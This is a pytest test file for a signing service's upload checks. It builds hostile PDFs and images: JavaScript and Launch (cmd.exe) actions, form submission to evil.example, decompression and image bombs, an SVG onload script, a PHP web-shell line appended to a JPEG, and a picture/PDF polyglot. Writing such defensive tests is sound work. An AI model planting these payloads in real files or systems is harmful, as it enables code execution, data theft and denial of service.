"""Hostile uploads: each way that a PDF or a picture can act, hide, grow or pretend is refused, and said why."""

from __future__ import annotations

import io
import struct
import zlib
from typing import Any

import pytest
from PIL import Image, PngImagePlugin
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.writer import PageObject, PdfFileWriter
from signing_kit import picture, plain_pdf, png_bomb, raw_pdf, stream_pdf, writer, written

from signing import pdf_check
from signing.errors import UploadRefused
from signing.image_check import check_image, reencode
from signing.pdf_check import check_pdf
from signing.uploads import REFUSALS, media_type

PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 100 100]/Resources<<>>>>"

#: What the catalogue says beside its pages.
CATALOGUES = {
    "JavaScript": b"/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(app.alert(1))>>]>>>>",
    "JS": b"/OpenAction<</S/GoTo/JS(x)>>",
    "OpenAction": b"/OpenAction<</S/URI/URI(http://evil.example)>>",
    "OpenAction named": b"/OpenAction<</S/Named/N/Print>>",
    "AA": b"/AA<</WC<</S/GoTo>>>>",
    "Launch": b"/Outlines<</First<</A<</S/Launch/F(cmd.exe)>>>>>>",
    "EmbeddedFile": b"/Names<</EmbeddedFiles<</Names[]>>>>",
    "associated file": b"/AF[<</Type/Filespec/F(a.exe)/EF<</F 3 0 R>>>>]",
    "portfolio": b"/Collection<</View/T>>",
    "XFA": b"/AcroForm<</XFA 3 0 R/Fields[]>>",
    "SubmitForm": b"/AcroForm<</Fields[<</FT/Btn/A<</S/SubmitForm/F(http://evil.example)>>>>]>>",
    "ImportData": b"/AcroForm<</Fields[<</FT/Btn/A<</S/ImportData/F(a)>>>>]>>",
    "RichMedia": b"/Extra[<</Subtype/RichMedia>>]",
    "GoToR": b"/Outlines<</First<</A<</S/GoToR/F(other.pdf)>>>>>>",
    "layers switched": b"/Outlines<</First<</A<</S/SetOCGState/State[/ON]>>>>>>",
}


def refusal(data: bytes, check: Any = check_pdf) -> str:
    """The code of the refusal, which has a sentence."""
    with pytest.raises(UploadRefused) as caught:
        check(data)
    assert caught.value.code in REFUSALS
    return str(caught.value.code)


@pytest.mark.parametrize("what", CATALOGUES)
def test_what_makes_a_pdf_act_is_refused(what: str) -> None:
    """Wherever the catalogue leads to it."""
    pdf = raw_pdf(b"<</Type/Catalog/Pages 2 0 R" + CATALOGUES[what] + b">>", PAGES, PAGE)
    assert refusal(pdf) == "pdf_active_content"


@pytest.mark.parametrize("annotation", [b"FileAttachment", b"Screen", b"Movie", b"Sound", b"3D", b"RichMedia"])
def test_annotations_that_play_or_carry_files_are_refused(annotation: bytes) -> None:
    """On any page."""
    page = PAGE[:-2] + b"/Annots[<</Type/Annot/Rect[0 0 9 9]/Subtype/" + annotation + b">>]>>"
    assert refusal(raw_pdf(b"<</Type/Catalog/Pages 2 0 R>>", PAGES, page)) == "pdf_active_content"


def test_a_file_attached_without_saying_its_type_is_found() -> None:
    """Attachments need not name themselves."""
    page = PAGE[:-2] + b"/PieceInfo<</X<</Y<</EF<</F 3 0 R>>>>>>>>>>"
    assert refusal(raw_pdf(b"<</Type/Catalog/Pages 2 0 R>>", PAGES, page)) == "pdf_active_content"


def test_a_script_packed_into_an_object_stream_is_found() -> None:
    """Compressed objects are walked as well."""
    made, out = PdfFileWriter(stream_xrefs=True), io.BytesIO()
    made.insert_page(
        PageObject(contents=made.add_object(generic.StreamObject(stream_data=b"")), media_box=(0, 0, 9, 9))
    )
    script = generic.DictionaryObject(
        {generic.pdf_name("/S"): generic.pdf_name("/JavaScript"), generic.pdf_name("/JS"): generic.pdf_string("x")}
    )
    made.root["/OpenAction"] = made.add_object(script, obj_stream=made.prepare_object_stream())
    made.write(out)
    assert b"JavaScript" not in out.getvalue()
    assert refusal(out.getvalue()) == "pdf_active_content"


def test_objects_without_end_are_not_walked_for_ever(monkeypatch: pytest.MonkeyPatch) -> None:
    """The walk has a limit."""
    monkeypatch.setattr(pdf_check, "_MAX_OBJECTS", 50)
    many = b"/X[" + b"<<>>" * 60 + b"]"
    assert refusal(raw_pdf(b"<</Type/Catalog/Pages 2 0 R" + many + b">>", PAGES, PAGE)) == "pdf_bomb"


@pytest.mark.parametrize("depth", [100, 300, 1_000, 5_000, 200_000])
def test_dictionaries_nested_deeply_exhaust_nothing(depth: int) -> None:
    """What is in the deepest is found, or the file is refused for its depth."""
    deep = b"/X" + b"<</X" * depth + b"<</S/Launch>>" + b">>" * depth
    pdf = raw_pdf(b"<</Type/Catalog/Pages 2 0 R" + deep + b">>", PAGES, PAGE)
    assert refusal(pdf) in ("pdf_active_content", "pdf_bomb", "file_unreadable")


@pytest.mark.parametrize("algorithm", ["RC4-128", "AES-128", "AES-256"])
def test_a_pdf_that_asks_for_a_password_is_refused_with_what_to_do(algorithm: str) -> None:
    """Whatever locks it."""
    made = writer()
    made.encrypt("rahasia", algorithm=algorithm)
    assert refusal(written(made)) == "pdf_password"


@pytest.mark.parametrize(
    "filters", [b"/LZWDecode", b"/RunLengthDecode", b"/FlateDecode", b"/ASCIIHexDecode/FlateDecode"]
)
def test_streams_that_grow_without_end_are_refused(filters: bytes) -> None:
    """Whatever packs them, once or twice."""
    zeros = bytes(200_000_000)
    packed = {
        b"/LZWDecode": _lzw(40_000),
        b"/RunLengthDecode": b"\x81\x00" * 1_000_000,
        b"/FlateDecode": zlib.compress(zeros, 9),
        b"/ASCIIHexDecode/FlateDecode": zlib.compress(zeros, 9).hex().encode() + b">",
    }[filters]
    pdf = stream_pdf(filters, packed)
    assert refusal(pdf) in ("pdf_bomb", "file_unreadable")


def _lzw(codes: int) -> bytes:
    """Codes of 12 bits, each of which stands for a longer run than the one before."""
    bits = "".join(f"{code:09b}" for code in (256, 0, *range(258, 510)))
    bits += "".join(f"{code:010b}" for code in range(510, 1022))
    bits += "".join(f"{code:011b}" for code in range(1022, 2046))
    bits += "".join(f"{code:012b}" for code in range(2046, 4094))
    bits += f"{4093:012b}" * codes
    bits += "0" * (-len(bits) % 8)
    return int(bits, 2).to_bytes(len(bits) // 8, "big")


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (png_bomb(60_000, 60_000), "image_bomb"),
        (b"\xff\xd8\xff\xe0" + bytes(2000), "file_unreadable"),
        (b"\x89PNG\r\n\x1a\n" + bytes(2000), "file_unreadable"),
        (b"GIF89a" + bytes(200), "file_unreadable"),
        (b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "file_unreadable"),
    ],
    ids=["huge", "empty-jpeg", "empty-png", "gif", "svg"],
)
def test_hostile_pictures_are_refused(data: bytes, code: str) -> None:
    """Before any pixel is unpacked."""
    assert refusal(data, check_image) == code


def test_a_jpeg_that_claims_to_be_huge_is_refused_before_it_is_unpacked() -> None:
    """Its header alone says so."""
    small = bytearray(picture(64, 64))
    at = small.index(b"\xff\xc0") + 5
    small[at : at + 4] = struct.pack(">HH", 60_000, 60_000)
    assert refusal(bytes(small), check_image) == "image_bomb"


def test_a_picture_whose_words_are_a_bomb_is_refused() -> None:
    """A text chunk that unpacks to a hundred megabytes."""
    words = PngImagePlugin.PngInfo()
    words.add_text("Comment", "A" * 100_000_000, zip=True)
    out = io.BytesIO()
    Image.new("RGB", (300, 400)).save(out, "PNG", pnginfo=words)
    assert len(out.getvalue()) < 1_000_000
    assert refusal(out.getvalue(), check_image) == "file_unreadable"


def test_what_a_picture_says_beside_its_pixels_is_gone_from_the_rendition() -> None:
    """Place, time, device, comments and what stands behind its end."""
    exif = Image.Exif()
    exif[0x010F] = "Kamera Rahasia"
    exif.get_ifd(0x8825)[2] = (2.0, 58.0, 30.0)
    data = picture(600, 800, exif=exif, comment=b"RUMAH SAYA") + b"<?php system($_GET['c']); ?>"
    safe = reencode(data)
    with Image.open(io.BytesIO(safe)) as made:
        assert (made.format, dict(made.getexif()), "comment" in made.info) == ("JPEG", {}, False)
    for secret in (b"Kamera", b"RUMAH", b"php"):
        assert secret in data
        assert secret not in safe


def test_two_kinds_at_once_are_one_of_them() -> None:
    """A file that is a picture for one program and a PDF for another counts by how it begins."""
    both = picture() + plain_pdf()
    assert media_type(both) == "image/jpeg"
    assert b"%PDF" not in reencode(both)
    assert media_type(b"MZ" + plain_pdf()) is None
